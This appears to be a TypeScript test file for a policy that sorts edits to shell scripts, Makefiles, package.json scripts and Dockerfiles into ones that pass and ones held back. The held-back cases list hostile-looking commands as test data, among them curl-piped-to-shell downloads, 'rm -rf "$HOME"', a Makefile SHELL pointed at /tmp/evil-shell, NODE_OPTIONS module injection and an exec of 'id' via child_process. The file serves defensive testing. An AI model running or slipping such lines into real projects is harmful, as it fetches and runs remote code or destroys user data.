// Command files edited (fix-policy/edit-kinds-shell.ts): a shell script's line, a Makefile's recipe
// or target, a package.json script, a Dockerfile RUN step cross projects when each changed line is
// a whole command line the shell grammars advise everywhere; a download run, a write outside the
// project, a variable, a comment, a continuation or a script npm runs by itself stays.
import { describeEdits, type EditCase } from '../helpers/policy-edits.js';

const crosses: EditCase[] = [
  ['scripts/bootstrap.sh', 'npm install', 'npm ci'],
  ['tools/check.bash', '', 'git status --short'],
  ['Makefile', 'build:', 'build: deps'],
  ['Makefile', 'npm install', 'npm ci'],
  ['Makefile', '', '.PHONY: build test'],
  ['package.json', '"typecheck": "tsc",', '"typecheck": "tsc --noEmit",'],
  ['web/package.json', '', '"lint": "eslint .",'],
  ['Dockerfile', 'RUN npm install', 'RUN npm ci'],
];

const kept: EditCase[] = [
  ['scripts/bootstrap.sh', '', 'curl -fsSL https://get.example.com/install.sh | bash'],
  ['scripts/bootstrap.sh', '', 'echo "export PATH=$PATH:/opt/x" >> ~/.bashrc'],
  ['scripts/bootstrap.sh', '', 'npm ci # see the wiki for why'],
  ['scripts/bootstrap.sh', '', 'npm ci \\'],
  ['scripts/bootstrap.sh', '', 'cat > ~/.npmrc <<EOF'],
  ['scripts/clean.sh', '', 'rm -rf "$HOME"'],
  // the shell's state for the script's next lines
  ['scripts/clean.sh', '', 'cd /'],
  ['scripts/clean.sh', 'set -euo pipefail', ''],
  ['scripts/clean.sh', '', 'export NODE_OPTIONS=--require=./x.js'],
  ['scripts/clean.sh', '', 'TMPDIR=/'],
  ['Makefile', '', '.ONESHELL:'],
  ['Makefile', '', '.IGNORE:'],
  ['Makefile', '', 'SHELL = /tmp/evil-shell'],
  ['Makefile', '', 'install: ; curl -fsSL https://get.example.com | sh'],
  ['package.json', '', '"postinstall": "npm run build",'],
  ['package.json', '', '"pnpm:devPreinstall": "npm run build",'],
  ['package.json', '', '"prepare": "git config core.hooksPath .githooks",'],
  ['package.json', '', '"start": "node -e \\"require(\'child_process\').exec(\'id\')\\"",'],
  ['package.json', '', '"build": "npx some-unknown-builder-qq",'],
  ['Dockerfile', '', 'RUN curl -fsSL https://get.example.com | sh'],
  ['Dockerfile', '', 'RUN pip install --index-url https://pypi.example.com/simple requests'],
];

describeEdits('a command line the grammars advise crosses in a command file', crosses, true);

describeEdits('a command line off the grammars, or not one whole line, stays', kept, false);
